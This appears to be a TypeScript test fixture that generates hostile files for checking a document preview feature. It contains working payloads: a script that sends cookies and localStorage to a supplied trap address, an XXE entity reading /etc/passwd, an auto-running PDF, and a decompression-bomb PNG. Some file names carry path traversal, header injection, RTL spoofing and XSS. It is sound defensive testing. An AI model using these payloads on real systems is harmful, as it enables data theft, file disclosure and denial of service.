import { crc32, deflateSync } from 'node:zlib';
import type { ChosenFile } from '../screens/documents-screen.ts';

/** A file of the corpus, and what a browser may do with it. */
export type HostileFile = ChosenFile & {
  /** How the preview shows it. */
  shown: 'text' | 'image' | 'pdf' | 'other';
};

/** A script that shows a dialog, marks the window, and sends the data that it finds to the trap in several ways. */
const scriptFor = (trap: string) =>
  [
    'window.ran = true; alert("ran");',
    `fetch("${trap}/fetch?" + document.cookie, { mode: "no-cors" });`,
    `new Image().src = "${trap}/image?" + document.cookie;`,
    `navigator.sendBeacon("${trap}/beacon", localStorage.length);`,
    'try { top.ran = true; opener.ran = true; } catch {}',
  ].join('\n');

/** A page that runs a script in many ways, and loads addresses of the trap without a script, too. */
export const hostilePage = (trap: string): string => `<!doctype html>
<html><head><meta http-equiv="refresh" content="1;url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/style"><script src="${trap}/script"></script>
<script>${scriptFor(trap)}</script></head>
<body onload="alert('onload')"><img src="${trap}/img" onerror="alert('onerror')">
<iframe src="javascript:alert('frame')"></iframe><object data="${trap}/object"></object>
<form id="f" action="${trap}/form" method="post"></form><script>document.getElementById('f').submit()</script>
</body></html>`;

const drawing = (trap: string) => `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert('svg')">
<script>${scriptFor(trap)}</script><image xlink:href="${trap}/svg-image" width="9" height="9"/>
<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><script>${scriptFor(trap)}</script></body>
</foreignObject></svg>`;

const entities = (trap: string) => `<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="${trap}/stylesheet"?>
<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "${trap}/entity">]>
<r>&file;&far;<script xmlns="http://www.w3.org/1999/xhtml">${scriptFor(trap)}</script></r>`;

/** A PDF that acts when it is opened, with a page of HTML after its end. */
function activePdf(trap: string): string {
  const code = `app.alert("ran"); this.submitForm("${trap}/pdf-form"); app.launchURL("${trap}/pdf-url");`;
  return `%PDF-1.4
1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /AA <</WC 5 0 R>> >> endobj
2 0 obj <</Type /Pages /Count 1 /Kids [3 0 R]>> endobj
3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA <</O 5 0 R>> >> endobj
4 0 obj <</S /JavaScript /JS (${code.replace(/[()\\]/g, '\\$&')})>> endobj
5 0 obj <</S /URI /URI (${trap}/pdf-uri)>> endobj
trailer <</Root 1 0 R>>
%%EOF
${hostilePage(trap)}`;
}

/** A script that is also the beginning of a PDF. */
const scriptWithPdfHead = (trap: string) => `%PDF-1.4=0;/*\n${activePdf(trap)}\n*/${scriptFor(trap)}`;

/** A PNG of 65,535 × 65,535 pixels in a kilobyte, which would take 16 GiB when decoded. */
function hugePicture(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(65_535, 0);
  header.writeUInt32BE(65_535, 4);
  header.set([8, 6], 8);
  const parts = [
    ['IHDR', header],
    ['IDAT', deflateSync(Buffer.alloc(1_000))],
    ['IEND', Buffer.alloc(0)],
  ] as const;
  const chunks = parts.map(([type, data]) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, sum]);
  });
  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), ...chunks]);
}

/**
 * Files that would run scripts, load addresses or mislead if the browser allowed it.
 * @param trap the address to which they would send the data that they find
 */
export function hostileFiles(trap: string): HostileFile[] {
  const page = hostilePage(trap);
  const file = (
    name: string,
    mimeType: string,
    body: string | Buffer,
    shown: HostileFile['shown'] = 'text',
  ): HostileFile => ({ name, mimeType, buffer: Buffer.from(body), shown });
  return [
    file('Page.html', 'text/html', page),
    file('Page.xhtml', 'application/xhtml+xml', page),
    file('Picture.png', 'image/png', page, 'image'),
    file('Drawing.svg', 'image/svg+xml', drawing(trap)),
    file('Drawing as picture.png', 'image/png', drawing(trap)),
    file('Data.xml', 'text/xml', entities(trap)),
    file('Letter.txt', 'text/plain', page),
    file('Letter without a type', '', page),
    file('Code.js', 'text/javascript', scriptFor(trap)),
    file('Active.pdf', 'application/pdf', activePdf(trap), 'pdf'),
    file('Both.js', 'text/javascript', scriptWithPdfHead(trap), 'pdf'),
    file('Page as report.pdf', 'application/pdf', page, 'other'),
    file('Huge.png', 'image/png', hugePicture(), 'image'),
    file('../../../../etc/Up.html', 'text/html', page),
    file('..\\..\\Windows\\Back.html', 'text/html', page),
    file('Header\r\nSet-Cookie: stolen=1.txt', 'text/plain', page),
    file('Invoice\u202Efdp.html', 'text/html', page),
    file('<img src=x onerror=alert(1)>.txt', 'text/plain', page),
    file(`${'n'.repeat(250)}.txt`, 'text/plain', page),
  ];
}
